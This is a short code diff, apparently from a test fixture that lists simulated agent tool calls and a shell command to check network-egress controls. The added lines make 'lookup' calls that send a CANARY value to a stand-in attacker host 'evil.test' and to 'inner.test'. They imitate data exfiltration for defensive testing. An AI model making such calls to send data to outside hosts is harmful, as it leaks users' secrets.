@@ -46,6 +46,9 @@ export function deedsIn(folder: string, port: number): Deeds {
       calls: [
         call('fetch', { url: `http://127.0.0.1:${port}/` }),
         call('read', { path: `http://127.0.0.1:${port}/` }),
+        call('lookup', { url: `https://evil.test:${port}/?all=${CANARY}` }),
+        call('lookup', { url: `https://inner.test/?all=${CANARY}` }),
+        call('lookup', { url: `http://127.0.0.1:${port}/lookup` }),
       ],
       shell: shell(
         `node -e "fetch('http://127.0.0.1:${port}/node').catch(() => 0)"`,
